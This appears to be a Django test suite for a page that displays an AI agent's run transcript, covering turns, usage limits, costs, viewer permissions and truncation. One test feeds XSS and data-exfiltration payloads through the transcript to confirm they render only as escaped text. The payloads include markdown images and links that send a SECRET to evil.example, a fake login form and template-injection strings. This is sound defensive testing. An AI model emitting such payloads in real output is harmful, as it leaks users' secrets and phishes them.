"""An agent's transcript on its run's page: everything is there, and everything is text."""

from __future__ import annotations

from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from executions import story
from executions.agents.story import LONGEST_ANSWER, MOST_TURNS
from tests.admin_client import VIEWER, a_person
from tests.bellboy import Bellboy
from tests.dom import Dom, dom_of, words_of
from tests.integration.test_admin_runs import page_of
from tests.staging import say
from tests.transcripts import (
    LIMITS,
    REQUEST,
    a_run_that_tells,
    a_run_underway,
    agent,
    an_ended_run,
    called,
    playing,
    said,
    scripted_agents,
    wants,
)

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def ada() -> Client:
    return a_person()


def turns_on(page: Dom) -> list[str]:
    (turns,) = page.all("ol", class_="lf-turns")
    return [words_of(turn) for turn in turns.children("li")]


def run_of(bellboy: Bellboy, *turns: dict[str, Any], **request: Any) -> Any:
    with scripted_agents() as scripted:
        scripted.request = {**REQUEST, **request}
        scripted.script = playing(*turns)
        return an_ended_run(bellboy, agent())


def test_a_transcript_tells_what_was_asked_answered_done_and_used(ada: Client, bellboy: Bellboy) -> None:
    run = a_run_that_tells(bellboy, "Quarterly books")

    page = dom_of(ada.get(page_of(run)))

    # What was asked, the author's words and data told apart
    asked = page.one("details", id="asked-agent")
    assert "You keep the records of a shop in order. Quarterly books" in asked.text
    (data,) = page.all("div", class_="lf-data")
    assert words_of(data) == 'Data from trigger{ "note": "Quarterly books" }'
    assert [words_of(datum) for datum in page.all("span", class_="lf-datum")] == ["data: pro"]
    # What it did, in order
    turns = turns_on(page)
    assert len(turns) == 6
    assert turns[0].startswith(
        "forum The model answered 1,200 + 80 tokens $0.0023 1.0 s It wants find_records, "
    )
    assert "I look for the customer first." in turns[0]
    assert '"count": 1' in turns[1]
    assert "Quarterly books was refused ai.permission_denied" in turns[2]
    assert "This step may not do that" in turns[2]
    assert "https://hooks.example/" in turns[4]
    assert '"answer": "Quarterly books"' in turns[5]
    # And what that used of its limits
    used = words_of(page.one("dl", class_="lf-gauges"))
    assert used == "Turns3 of 10Tool calls3 of 20Tokens3,840 of 100,000Time6.0 s of 2 minCost$0.0046 of $0.01"
    assert "openai:gpt-5, 3,600 tokens read, 240 written, $0.0046." in page.text
    assert "3,840 tokens, $0.0046" in words_of(page.all("dl", class_="lf-facts")[-1])


@pytest.mark.parametrize(
    "words",
    [
        "![x](https://evil.example/?q=SECRET)",
        "[click here](https://evil.example/?q=SECRET)",
        "https://evil.example/?q=SECRET",
        '<img src="https://evil.example/?q=SECRET"><a href="https://evil.example/">x</a>',
        "</pre></details><iframe src=https://evil.example/></iframe><style>@import 'https://evil.example/'</style>",
        "<form action=https://evil.example/><button>Log in again</button></form><meta http-equiv=refresh content=0>",
        "javascript:alert(1) {{ 7|add:7 }} {% debug %} &lt;b&gt; <!--",
    ],
)
def test_whatever_a_model_or_its_data_says_is_text(ada: Client, bellboy: Bellboy, words: str) -> None:
    plain = dom_of(ada.get(page_of(a_run_that_tells(bellboy, "plain"))))

    page = dom_of(ada.get(page_of(a_run_that_tells(bellboy, words))))

    # Word for word it is there, and no element and no address is there because of it
    assert words in page.text
    for tag in ("a", "img", "iframe", "form", "style", "meta", "script", "button", "link"):
        assert len(page.all(tag)) == len(plain.all(tag)), tag
    for element in page.all("a") + page.all("form") + page.all("img"):
        leads = str(element.attributes.get("href") or element.attributes.get("action") or "")
        assert "evil.example" not in leads


def test_a_live_run_shows_what_is_there_so_far_and_renews_itself(ada: Client) -> None:
    with scripted_agents():
        begun = a_run_underway()
        midway = a_run_underway(said("", wants("http_request")), called("http_request", is_open=True))

    assert "The model has not answered yet." in dom_of(ada.get(page_of(begun))).text
    page = dom_of(ada.get(page_of(midway)))
    turns = turns_on(page)
    assert "http_request was sent, no answer yet" in turns[1]
    assert turns[2] == "more_horizIt goes on."
    assert page.all("span", data_live="2000")


def test_who_may_not_see_content_sees_figures_tools_and_codes_only(bellboy: Bellboy) -> None:
    bob = a_person(*VIEWER, name="bob")
    run = a_run_that_tells(bellboy, "Quarterly books")

    page = dom_of(bob.get(page_of(run)))

    assert "find_records" in page.text
    assert "ai.permission_denied" in page.text
    assert "3 of 10" in page.text
    for hidden in ("records of a shop", "look for the customer", "hooks.example", "first_name", "Arguments"):
        assert hidden not in page.text


def test_a_long_transcript_is_cut_and_says_so(ada: Client, bellboy: Bellboy) -> None:
    many = [said(f"answer {number}.") for number in range(MOST_TURNS + 3)]
    long = said("x" * (LONGEST_ANSWER + 100))
    limits = {**LIMITS, "turns": 300}

    page = dom_of(ada.get(page_of(run_of(bellboy, long, *many, limits=limits))))

    turns = turns_on(page)
    assert len(turns) == MOST_TURNS
    assert "Its answer of 32.1 KiB is too long for this page; the API has it." in turns[0]
    assert "4 more; the API pages through all of them." in page.text
    assert "answer 200." not in page.text


def test_what_was_answered_without_a_price_says_so(ada: Client, bellboy: Bellboy) -> None:
    page = dom_of(ada.get(page_of(run_of(bellboy, said("Hello.", cost=None), tools=[]))))

    assert "1,200 tokens read, 80 written, no price is known." in page.text
    assert "It may use no tools." in page.text


def test_a_used_up_limit_is_marked(ada: Client, bellboy: Bellboy) -> None:
    page = dom_of(ada.get(page_of(run_of(bellboy, said("Hello."), limits={**LIMITS, "turns": 1}))))

    assert len(page.all("dd", class_="lf-gauge-full")) == 1


def test_a_run_without_agents_asks_for_no_transcript(bellboy: Bellboy) -> None:
    with scripted_agents() as scripted:
        scripted.script = playing(said("Hello."))
        runs = [an_ended_run(bellboy, say("a"), say("b")), an_ended_run(bellboy, agent("a"), agent("b"))]

    counts = []
    for run in runs:
        with CaptureQueriesContext(connection) as queries:
            assert (story.told(run.pk).agents is None) == (run == runs[0])
        counts.append(len(queries))
    assert counts[1] == counts[0] + 3
